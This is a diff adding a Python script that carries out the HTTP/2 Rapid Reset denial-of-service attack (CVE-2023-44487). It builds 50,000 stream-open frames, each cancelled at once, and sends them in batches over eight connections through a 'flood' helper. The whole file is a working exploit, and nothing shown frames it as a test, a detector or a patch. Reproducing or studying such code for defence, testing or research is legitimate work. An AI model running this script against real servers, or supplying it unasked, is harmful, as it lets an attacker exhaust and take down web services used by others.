@@ -1,0 +1,22 @@
+"""Streams that are reset as soon as they are begun, on eight connections (CVE-2023-44487)."""
+
+import struct
+
+import flood
+from http2_connection import CANCEL, RST_STREAM, END_HEADERS, HEADERS, frame
+
+STREAMS = 50_000
+PAIR_BYTES = len(frame(HEADERS, 0, 1, flood.header_block())) + len(frame(RST_STREAM, 0, 1, b"1234"))
+
+
+def parts():
+    block = flood.header_block()
+    reset = struct.pack(">I", CANCEL)
+    all_frames = [
+        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset) for stream in range(1, 2 * STREAMS, 2)
+    ]
+    return [b"".join(all_frames[i : i + 500]) for i in range(0, STREAMS, 500)]
+
+
+if __name__ == "__main__":
+    flood.main(parts, connections=8)
